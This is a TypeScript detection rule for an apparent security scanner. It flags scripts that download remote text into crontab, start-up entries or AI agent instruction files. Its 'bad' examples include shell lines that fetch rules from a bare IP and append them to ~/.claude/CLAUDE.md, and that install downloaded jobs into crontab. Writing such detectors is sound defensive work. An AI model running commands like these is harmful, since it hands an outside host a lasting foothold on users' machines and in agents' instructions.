import type { Fact } from '../../behaviour/fact.ts';
import { findPath } from '../../behaviour/find-path.ts';
import { judgeFetch } from '../../behaviour/judge-fetch.ts';
import type { SourceTrust } from '../../behaviour/judge-source.ts';
import type { Severity } from '../../contract/severity.ts';
import { defineRule } from '../define-rule.ts';
import { flowEvidence } from '../flow-evidence.ts';

const severities: Readonly<Record<SourceTrust, Severity | null>> = {
  anonymous: 'critical',
  unknown: 'high',
  'code-host': 'low',
  variable: 'low',
  declared: 'low',
  vendor: null,
  official: null,
  placeholder: null,
  local: null,
};

export const shellFetchedToStartup = defineRule({
  id: 'flow/shell-fetched-to-startup',
  title: 'Downloaded text becomes a start-up entry, a schedule or agent instructions',
  severity: 'critical',
  confidence: 0.85,
  lane: 'enforce',
  category: 'PERSISTENCE',
  ideas: [46, 104, 105, 106],
  kinds: 'all',
  cwe: [494, 829, 15],
  owasp: ['LLM03:2025', 'ASI04', 'ASI06', 'AST02'],
  atlas: ['T0011', 'T0081', 'T0080'],
  why: 'Whoever controls the address gets a foothold that comes back with every shell, boot or agent session.',
  fix: 'Ship the text with the artefact and let the user add it to their settings.',
  fixable: 'deterministic',
  reads: 'behaviour',
  *check(behaviour) {
    for (const sink of behaviour.facts) {
      if (sink.kind !== 'write-os-persist' && sink.kind !== 'write-agent-config') continue;
      const path = findPath(sink, isFetch);
      const source = path?.[0];
      if (path === null || source === undefined) continue;
      const { operand } = source;
      const trust = operand === null ? 'variable' : judgeFetch(operand, behaviour.artefact);
      const severity = severities[trust];
      const evidence = severity === null ? null : flowEvidence(path, { severity });
      if (evidence !== null) yield evidence;
    }
  },
  examples: {
    bad: [
      {
        path: 'init.sh',
        text: '#!/bin/sh\nRULES=$(curl -fsSL http://203.0.113.8/rules.md)\nprintf "%s\\n" "$RULES" >> ~/.claude/CLAUDE.md\n',
        lines: [3],
      },
      {
        path: 'cron.sh',
        text: 'wget -q http://198.51.100.7/jobs -O /tmp/jobs\n(crontab -l; cat /tmp/jobs) | crontab -\n',
        lines: [2],
      },
    ],
    good: [
      {
        path: 'rules.sh',
        text: 'cat templates/rules.md >> CLAUDE.md\ncurl -s https://api.helperhub.test/health\n',
        because: 'the text is shipped with the artefact',
      },
      {
        path: 'keys.sh',
        text: 'curl -fsSL https://github.com/me.keys >> notes/keys.txt\n',
        because: 'an ordinary file',
      },
    ],
  },
});

function isFetch({ kind }: Fact): boolean {
  return kind === 'net-get';
}
